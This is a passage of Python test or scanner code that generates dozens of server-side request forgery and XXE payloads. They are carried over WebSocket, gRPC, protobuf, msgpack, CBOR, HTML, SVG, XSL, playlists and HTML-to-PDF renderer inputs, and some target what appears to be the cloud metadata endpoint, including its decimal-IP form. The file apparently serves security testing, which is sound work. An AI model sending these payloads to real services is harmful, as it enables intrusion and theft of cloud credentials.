    # --- WebSocket
    text = j(type="fetch", url=URL).encode()
    yield "ws-text", ws(ws_frame(text))
    yield "ws-plain-url", ws(ws_frame(URL.encode()))
    yield "ws-binary", ws(ws_frame(text, 2))
    yield "ws-fragments", ws(ws_frame(text[:20], 1, False), ws_frame(text[20:50], 0, False), ws_frame(text[50:], 0))
    yield "ws-fragments-ping", ws(ws_frame(text[:20], 1, False), ws_frame(b"hi", 9), ws_frame(text[20:], 0))
    yield "ws-after-others", ws(*[ws_frame(j(n=i).encode()) for i in range(50)], ws_frame(text))
    yield "ws-deflate", ws(ws_frame(deflated(text), 1, rsv1=True), extension=DEFLATE)
    yield "ws-deflate-params", ws(ws_frame(deflated(text), 1, rsv1=True), extension="Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits=15; server_no_context_takeover\r\n")
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    takeover = [(packer.compress(m) + packer.flush(zlib.Z_SYNC_FLUSH))[:-4] for m in (j(type="fetch", url=f"http://example.org{PATH}").encode(), text)]
    yield "ws-deflate-takeover", ws(*[ws_frame(m, 1, rsv1=True) for m in takeover], extension=DEFLATE)
    packed = deflated(text)
    yield "ws-deflate-fragments", ws(ws_frame(packed[:15], 1, False, rsv1=True), ws_frame(packed[15:], 0), extension=DEFLATE)
    yield "ws-deflate-not-packed", ws(ws_frame(text), extension=DEFLATE)
    yield "ws-zero-mask", ws(ws_frame(text, mask=b"\0\0\0\0"))
    yield "ws-unmasked", ws(ws_frame(text, mask=None))
    yield "ws-long", ws(ws_frame(j(pad=rand(3, 90_000), url=URL).encode()))
    yield "ws-gzip-binary", ws(ws_frame(gzip.compress(text), 2))
    yield "ws-socketio", ws(ws_frame(b'42["fetch",{"url":"' + URL.encode() + b'"}]'))
    yield "ws-stomp", ws(ws_frame(b"SEND\ndestination:/app/fetch\n\n" + text + b"\0"))
    yield "ws-graphql", ws(ws_frame(j(type="subscribe", payload={"query": "mutation($u:String!){f(u:$u)}", "variables": {"u": URL}}).encode()))
    # --- gRPC
    yield "grpc-plain", grpc_case("", lambda b: b)
    yield "grpc-gzip", grpc_case("gzip", gzip.compress)
    yield "grpc-deflate", grpc_case("deflate", zlib.compress)
    if brotli:
        yield "grpc-zstd", grpc_case("zstd", zstandard.ZstdCompressor().compress)
    yield "grpc-gzip-stream", grpc_case("gzip", gzip.compress, separate=True)
    yield "grpc-gzip-nested", grpc_case("gzip", gzip.compress, message=field(4, field(1, "id-1") + field(2, URL)) + field(5, "x" * 50))
    yield "grpc-nested", grpc_case("", lambda b: b, message=field(4, field(1, "id-1") + field(2, URL)) + field(5, "x" * 50))
    web = base64.b64encode(grpc(field(1, URL))).decode()
    yield "grpc-web-text", confirmed(post(web, "application/grpc-web-text"))
    yield "grpc-web", confirmed(post(grpc(field(1, URL)), "application/grpc-web+proto"))
    yield "protobuf", confirmed(post(field(1, URL) + field(2, "b"), "application/x-protobuf"))
    yield "msgpack", confirmed(post(b"\x81\xa3url\xd9" + bytes([len(URL)]) + URL.encode(), "application/msgpack"))
    yield "cbor", confirmed(post(b"\xa1\x63url\x78" + bytes([len(URL)]) + URL.encode(), "application/cbor"))
    # --- pages that lead on
    pages = {
        "iframe": ("text/html", f"<html><iframe src=\"{URL}\"></iframe>"), "frame": ("text/html", f"<frameset><frame src={URL}></frameset>"), "srcdoc": ("text/html", f"<iframe srcdoc=\"&lt;img src='{URL}'&gt;\">"), "object": ("text/html", f"<object data='{URL}'>"), "embed": ("text/html", f"<embed src='{URL}'>"), "link": ("text/html", f"<link rel=stylesheet href='{URL}'>"), "img": ("text/html", f"<img src='//{IMDS}{PATH}'>"), "srcset": ("text/html", f"<img srcset='{URL} 2x'>"), "video": ("text/html", f"<video poster='{URL}'></video>"), "audio": ("text/html", f"<audio src='{URL}'>"), "source": ("text/html", f"<video><source src='{URL}'></video>"), "body-background": ("text/html", f"<body background='{URL}'>"), "input-image": ("text/html", f"<input type=image src='{URL}'>"), "base": ("text/html", f"<base href='http://{IMDS}/'><img src='{PATH[1:]}'>"),
        "location": ("text/html", f"<script>window.location = \"{URL}\"</script>"), "location-replace": ("text/html", f"<script>location.replace('{URL}')</script>"), "fetch": ("text/html", f"<script>fetch('{URL}').then(r=>r.text())</script>"), "xhr": ("text/html", f"<script>x=new XMLHttpRequest();x.open('GET','{URL}',false);x.send()</script>"), "open": ("text/html", f"<script>open('{URL}')</script>"), "script-src": ("text/html", f"<script src='{URL}'></script>"), "script-escaped": ("text/html", "<script>location='" + URL.replace("/", "\\/") + "'</script>"), "script-atob": ("text/html", f"<script>location=atob('{B64}')</script>"),
        "meta": ("text/html", f"<meta http-equiv=\"refresh\" content=\"0; url={URL}\">"), "meta-quotes": ("text/html", f"<META HTTP-EQUIV=Refresh CONTENT=\"1;URL='{URL}'\">"), "form-submit": ("text/html", f"<form action='{URL}' id=f></form><script>f.submit()</script>"),
        "svg-image": ("image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg'><image xlink:href='{URL}'/></svg>"), "svg-use": ("image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg'><use href='{URL}#x'/></svg>"), "svg-style": ("image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg'><style>@import url({URL});</style></svg>"), "svg-xxe": ("image/svg+xml", f"<!DOCTYPE svg [<!ENTITY x SYSTEM '{URL}'>]><svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>"), "svg-foreign": ("image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{URL}'/></foreignObject></svg>"),
        "m3u8": ("application/vnd.apple.mpegurl", f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n{URL}\n#EXT-X-ENDLIST\n"), "m3u8-key": ("application/x-mpegURL", f"#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI=\"{URL}\"\n#EXTINF:1,\nhttp://a.example/1.ts\n"), "m3u8-plain-type": ("text/plain", f"#EXTM3U\n#EXTINF:1,\n{URL}\n"), "concat": ("application/vnd.apple.mpegurl", f"#EXTM3U\n#EXTINF:10.0,\nconcat:http://a.example/h|{URL}\n"), "mpd": ("application/dash+xml", f"<?xml version='1.0'?><MPD><Period><BaseURL>{URL}</BaseURL></Period></MPD>"), "pls": ("audio/x-scpls", f"[playlist]\nFile1={URL}\nNumberOfEntries=1\n"), "xspf": ("application/xspf+xml", f"<?xml version='1.0'?><playlist xmlns='http://xspf.org/ns/0/'><trackList><track><location>{URL}</location></track></trackList></playlist>"), "smil": ("application/smil", f"<smil><body><video src='{URL}'/></body></smil>"),
        "dtd": ("application/xml-dtd", f"<!ENTITY % f SYSTEM \"{URL}\">\n<!ENTITY % e \"<!ENTITY s SYSTEM 'http://a.example/?x=%f;'>\">%e;"), "dtd-text": ("text/plain", f"<!ENTITY % f SYSTEM '{URL}'>%f;"), "xml-entity": ("application/xml", xxe), "xsl": ("text/xsl", f"<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:include href='{URL}'/></xsl:stylesheet>"), "xsl-document": ("text/xsl", f"<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'><xsl:copy-of select=\"document('{URL}')\"/></xsl:template></xsl:stylesheet>"), "xinclude": ("application/xml", f"<r xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include parse='text' href='{URL}'/></r>"), "wsdl": ("text/xml", f"<definitions xmlns='http://schemas.xmlsoap.org/wsdl/'><import location='{URL}'/></definitions>"), "xsd": ("text/xml", f"<r xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='http://x {URL}'/>"),
        "css": ("text/css", f"@import '{URL}';"), "css-url": ("text/css", f"a{{background:url(\"{URL}\")}}"), "css-font": ("text/css", f"@font-face{{font-family:x;src:url({URL})}}"), "feed": ("application/rss+xml", f"<?xml version='1.0'?><rss><channel><image><url>{URL}</url></image></channel></rss>"), "enclosure": ("application/rss+xml", f"<?xml version='1.0'?><rss><channel><item><enclosure url='{URL}' type='audio/mpeg'/></item></channel></rss>"), "manifest": ("application/manifest+json", j(icons=[{"src": URL}])), "oembed": ("application/json", j(type="photo", url=URL)), "og-image": ("text/html", f"<meta property=\"og:image\" content=\"{URL}\">"), "favicon": ("text/html", f"<link rel='shortcut icon' href='{URL}'>"), "utf16-page": ("text/html", f"<iframe src='{URL}'>"),
        "html-decimal": ("text/html", f"<iframe src='http://2852039166{PATH}'></iframe>"), "html-entities": ("text/html", "<iframe src='" + "".join(f"&#{ord(c)};" for c in URL) + "'></iframe>"), "late": ("text/html", "<p>lorem ipsum dolor</p>" * 3000 + f"<iframe src='{URL}'></iframe>"),
    }
    for name, (kind, page) in pages.items():
        yield f"page-{name}", page_led(kind, page)
    yield "page-refresh-header", page_led("text/html", "<p>", more=[f"Refresh: 0; url={URL}\r\n"])
    yield "page-link-header", page_led("text/html", "<p>", more=[f"Link: <{URL}>; rel=preload; as=fetch\r\n"])
    # --- HTML given to a renderer
    for name, markup in {"iframe": f"<iframe src='{URL}'>", "img": f"<img src='{URL}'>", "link": f"<link rel=attachment href='{URL}'>", "style": f"<style>@import url('{URL}')</style>", "style-attr": f"<div style=\"background:url('{URL}')\">", "meta": f"<meta http-equiv=refresh content='0;url={URL}'>", "script": f"<script>document.location='{URL}'</script>", "svg": f"<svg><image xlink:href='{URL}'/></svg>", "object": f"<object data={URL}></object>", "unquoted": f"<iframe src={URL}>", "upper": f"<IFRAME SRC='{URL}'>", "decimal": f"<iframe src='http://2852039166{PATH}'>", "portal": f"<portal src='{URL}'>", "annotation": f"<annotation file='{URL}'/>", "annotation-content": f"<annotation file=\"x\" content=\"{URL}\" icon=\"Graph\"/>", "markdown-image": f"![a]({URL})", "input": f"<input type='image' src='{URL}'/>"}.items():
        page = f"<html><body><h1>Invoice</h1>{markup}</body></html>"
        must = None if name in ("markdown-image", "annotation", "annotation-content", "portal") else "ssrf-confirmed"
        yield f"render-{name}-form", confirmed(post("html=" + quote(page, safe=""), FORM), must=must)
        yield f"render-{name}-json", confirmed(post(j(html=page, format="pdf"), JSON), must=must)
        yield f"render-{name}-body", confirmed(post(page, "text/html"), must=must)
        yield f"render-{name}-part", confirmed(multipart_post([('Content-Disposition: form-data; name="files"; filename="index.html"\r\nContent-Type: text/html', page)]), must=must)
        yield f"render-{name}-base64", confirmed(post(j(content=base64.b64encode(page.encode()).decode()), JSON), must=must)
        yield f"render-{name}-fragment", confirmed(post(j(body=markup), JSON), must=must)
        yield f"render-{name}-query", confirmed(get("/pdf?html=" + quote(page, safe="")), must=must)
